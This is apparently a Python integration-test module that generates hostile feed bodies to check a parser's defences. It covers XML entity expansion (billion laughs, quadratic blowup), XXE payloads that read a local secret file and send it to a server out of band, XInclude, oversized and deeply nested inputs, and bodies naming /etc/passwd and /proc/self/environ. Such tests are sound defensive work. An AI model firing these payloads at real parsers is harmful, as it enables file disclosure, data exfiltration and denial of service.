"""Cases 18 to 21: bodies of small requests that cost whoever reads them time, memory or a look where it must not look.

All of our own making, after the shapes that were measured on the parser: entities, quadratic patterns, size and
depth, bodies that are a path or an address. Each says what a poll of it may end with.
"""

from collections.abc import Callable, Mapping
from itertools import pairwise
from random import Random

from monitor.domain.sources.schedule import Outcome
from tests.integration.hostile.attack import Attack, answering, feed

_READ = frozenset({Outcome.NEW_BODY})
_NOT_READ = frozenset({Outcome.UNREADABLE, Outcome.NOT_A_FEED})
_CONTAINED = _READ | _NOT_READ | {Outcome.CHILD_LOST, Outcome.TOO_LARGE, Outcome.TIMEOUT}  # the large take turns

_HEAD = '<?xml version="1.0"?>'
_TAIL = "<rss version='2.0'><channel><title>{0}</title><item><title>{0}</title><guid>1</guid></item></channel></rss>"
LOOKED_FOR = "/tmp/monitor-hostile-secret"


def _attacks(case: int, bodies: Mapping[str, bytes], ends: frozenset[Outcome]) -> tuple[Attack, ...]:
    return tuple(
        Attack(case=case, name=name, talk=answering(body), ends=ends, body=body) for name, body in bodies.items()
    )


# ---------------------------------------------------------------- 18: entities


def _declaring(declared: str, used: str = "&a;") -> str:
    return f"{_HEAD}<!DOCTYPE rss [{declared}]>{_TAIL.format(used)}"


def _laughs(levels: int, each: int = 10) -> str:
    names = "abcdefghijklmnop"[:levels]
    rows = ['<!ENTITY a "lol">']
    rows += [f'<!ENTITY {n} "{f"&{m};" * each}">' for m, n in pairwise(names)]
    return _declaring("".join(rows), f"&{names[-1]};")


def _entity_texts(server: str) -> Mapping[str, str]:
    secret = f"file://{LOOKED_FOR}"
    return {
        "laughs": _laughs(10),
        "laughs-deep": _laughs(16, 2),
        "quadratic": _declaring(f'<!ENTITY a "{"a" * 100_000}">', "&a;" * 10_000),
        "quadratic-in-many-items": f'{_HEAD}<!DOCTYPE rss [<!ENTITY a "{"a" * 1_000_000}">]><rss><channel>'
        + "<item><title>&a;</title></item>" * 3_000
        + "</channel></rss>",
        "itself": _declaring('<!ENTITY a "&a;">'),
        "each-other": _declaring('<!ENTITY a "&b;"><!ENTITY b "&a;">'),
        "file": _declaring(f'<!ENTITY a SYSTEM "{secret}">'),
        "file-by-path": _declaring(f'<!ENTITY a SYSTEM "{LOOKED_FOR}">'),
        "address": _declaring(f'<!ENTITY a SYSTEM "{server}/xxe">'),
        "public": _declaring(f'<!ENTITY a PUBLIC "-//x//y//EN" "{server}/xxe">'),
        "parameter": _declaring(f'<!ENTITY % p SYSTEM "{server}/dtd">%p;'),
        "parameter-out-of-band": _declaring(
            f'<!ENTITY % f SYSTEM "{secret}"><!ENTITY % p "<!ENTITY &#37; s SYSTEM \'{server}/?%f;\'>">%p;%s;'
        ),
        "external-dtd": f'{_HEAD}<!DOCTYPE rss SYSTEM "{server}/dtd">{_TAIL.format("t")}',
        "external-dtd-file": f'{_HEAD}<!DOCTYPE rss SYSTEM "{secret}">{_TAIL.format("t")}',
        "notation": _declaring(f'<!NOTATION n SYSTEM "{secret}"><!ENTITY a SYSTEM "{server}/x" NDATA n>'),
        "style-sheet": f'{_HEAD}<?xml-stylesheet type="text/xsl" href="{server}/xsl"?>{_TAIL.format("t")}',
        "include": f'{_HEAD}<rss xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>t</title>'
        f'<item><title><xi:include href="{secret}" parse="text"/></title><guid>1</guid></item></channel></rss>',
        "schema": f'{_HEAD}<rss xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="x {server}/x">'
        "<channel><title>t</title><item><title>t</title></item></channel></rss>",
    }


def entities(server: str) -> tuple[Attack, ...]:
    """Case 18, in UTF-8 and UTF-16. `server` is the address that external entities name."""
    texts = _entity_texts(server)
    plain = {name: text.encode() for name, text in texts.items()}
    wide = {
        f"{name}-utf-16": text.replace(_HEAD, '<?xml version="1.0" encoding="utf-16"?>').encode("utf-16")
        for name, text in texts.items()
    }
    return _attacks(18, plain | wide, _CONTAINED)


# ---------------------------------------------------------------- 19: quadratic patterns


def _item(inside: str) -> bytes:
    text = inside.replace("&", "&amp;").replace("<", "&lt;")
    return feed(inside=f"<item><title>t</title><guid>1</guid><description>{text}</description></item>")


def _tag(inside: str, name: str = "author") -> bytes:
    return feed(inside=f"<item><title>t</title><guid>1</guid><{name}>{inside}</{name}></item>")


def quadratic() -> tuple[Attack, ...]:
    """Case 19."""
    bodies = {
        "style": _item(f'<p style="{"a" * 100_000}">t</p>'),
        "style-url": _item(f'<p style="{"url(" * 12_500}">t</p>'),
        "comments": _item("<!--" * 200_000),
        "comments-closed-late": _item("<!--" * 100_000 + "-->"),
        "declarations": _item("<![" * 200_000),
        "open-tags": _item("<a " * 300_000),
        "quotes": _item('<a href="' * 100_000),
        "ampersands": _item("&" * 500_000),
        "entities": _item("&#" * 250_000),
        "author": _tag("a" * 500_000 + "@" + "b" * 500_000),
        "author-dots": _tag("a." * 250_000 + "@" + "b." * 250_000),
        "date": _tag("1" * 500_000, "pubDate"),
        "date-spaces": _tag(" " * 500_000 + "1", "pubDate"),
        "attributes": feed(inside="<x " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>"),
        "namespaces": feed(inside="<x>".join(f"<y xmlns:n{n}='u{n}'>" for n in range(30_000))),
        "title-spaces": _tag(" " * 1_000_000, "title"),
        "title-brackets": _tag("&lt;" * 250_000, "title"),
        "link": _tag("http://a/" + "../" * 300_000, "link"),
        "guid": _tag("http://a/?" + "utm_a=1&amp;" * 100_000, "guid"),
        "categories": feed(inside="<item><title>t</title>" + "<category>c</category>" * 100_000 + "</item>"),
        "processing": b"<?x " * 300_000 + feed("t"),
        "comments-before": b"<!-- a -->" * 200_000 + feed("t"),
        "document-types": b"<!DOCTYPE rss [" * 100_000 + feed("t"),
        "no-end": b"<rss><channel>" + b"<item><title>t" * 100_000,
    }
    return _attacks(19, bodies, _CONTAINED)


# ---------------------------------------------------------------- 20: size and shape


def _deep(depth: int) -> bytes:
    return feed(inside="<d>" * depth + "</d>" * depth)


def _many(count: int) -> bytes:
    items = "".join(f"<item><guid>{n}</guid><title>i{n}</title></item>" for n in range(count))
    return f'<rss version="2.0"><channel><title>t</title>{items}</channel></rss>'.encode()


def _html(items: int) -> bytes:
    page = "&lt;p&gt;&lt;b&gt;word&lt;/b&gt; &lt;a href='x'&gt;more&lt;/a&gt;&lt;/p&gt;" * 50
    return feed(inside=f"<item><title>t</title><description>{page}</description></item>" * items)


def shapes() -> tuple[Attack, ...]:
    """Case 20: all smaller than a body may be, but for the first of them."""
    large: Mapping[str, Callable[[], bytes]] = {
        "million-items": lambda: _many(1_000_000),
        "hundred-thousand-items": lambda: _many(100_000),
        "deep-xml": lambda: _deep(100_000),
        "deeper-xml": lambda: _deep(1_000_000),
        "deep-html": lambda: _item("<div>" * 100_000),
        "html": lambda: _html(2_000),
        "page": lambda: b"<!doctype html><html><body>" + b"<p>word <b>word</b></p>" * 400_000,
        "random": lambda: Random(20).randbytes(10_000_000),
        "null-bytes": lambda: bytes(10_000_000),
        "null-bytes-inside": lambda: feed("t" + "\0" * 5_000_000),
        "one-text": lambda: _item("word " * 2_000_000),
        "one-word": lambda: _item("a" * 9_000_000),
        "one-title": lambda: _tag("a" * 9_000_000, "title"),
        "wide-signs": lambda: _item("出口管制" * 700_000),
        "utf-16": lambda: ("\ufeff" + _many(60_000).decode()).encode("utf-16-le"),
        "json-deep": lambda: b"[" * 5_000_000,
        "json-items": lambda: (
            b'{"version":"https://jsonfeed.org/version/1.1","items":[' + b'{"id":"1"},' * 700_000 + b'{"id":"2"}]}'
        ),
        "json-numbers": lambda: b'{"items":[' + b"9" * 5_000_000 + b"]}",
        "empty": lambda: b"",
        "spaces": lambda: b" " * 9_000_000,
        "bad-codec": lambda: b'<?xml version="1.0" encoding="punycode"?>' + feed("t"),
        "unpacking-codec": lambda: b'<?xml version="1.0" encoding="zlib"?>' + feed("t"),
        "utf-7": lambda: b'<?xml version="1.0" encoding="utf-7"?>+ADw-rss+AD4-',
    }
    return _attacks(20, {name: make() for name, make in large.items()}, _CONTAINED)


# ---------------------------------------------------------------- 21: a path, an address


def paths(server: str, fifo: str) -> tuple[Attack, ...]:
    """Case 21. `server` is an address where nobody must ask, `fifo` a pipe that nobody writes to."""
    bodies = {
        "passwd": b"/etc/passwd",
        "zero": b"/dev/zero",
        "random": b"/dev/urandom",
        "environment": b"/proc/self/environ",
        "secret": LOOKED_FOR.encode(),
        "secret-address": f"file://{LOOKED_FOR}".encode(),
        "relative": b"../../../../etc/passwd",
        "fifo": fifo.encode(),
        "address": f"{server}/body".encode(),
        "feed-address": f"feed:{server}/body".encode(),
        "line-end": f"{server}/body\n".encode(),
    }
    return _attacks(21, bodies, _NOT_READ)
